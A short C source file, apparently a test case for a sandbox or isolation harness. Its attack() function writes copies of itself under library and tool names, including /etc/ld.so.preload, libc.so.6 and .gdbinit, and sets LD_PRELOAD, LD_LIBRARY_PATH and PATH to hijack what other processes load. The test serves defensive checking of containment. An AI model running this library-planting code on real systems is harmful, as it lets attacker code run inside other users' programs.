/*
 * libraries-in-the-work-folder.c - leaves libraries and settings that others might load
 *
 * play: main 03 server
 * play: first 01 client
 * play: first 02 client
 */
static void
attack(void)
{
    static const char *const files[] = {"libc.so.6", "short.so", "client",
        "server", "libasan.so.8", "ld.so.preload", ".gdbinit", "strace",
        "/etc/ld.so.preload", "/kit/short.so", "/tmp/short.so", "../short.so"};
    int self = open("/proc/self/exe", O_RDONLY);

    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
        int fd = open(files[i], O_WRONLY | O_CREAT | O_NONBLOCK, 0777);
        if (fd == -1 || self == -1)
            continue;
        lseek(self, 0, SEEK_SET);
        copy_all(self, fd);
        close(fd);
    }
    setenv("LD_PRELOAD", "./short.so", 1);
    setenv("LD_LIBRARY_PATH", ".", 1);
    setenv("PATH", ".:/work", 1);
}
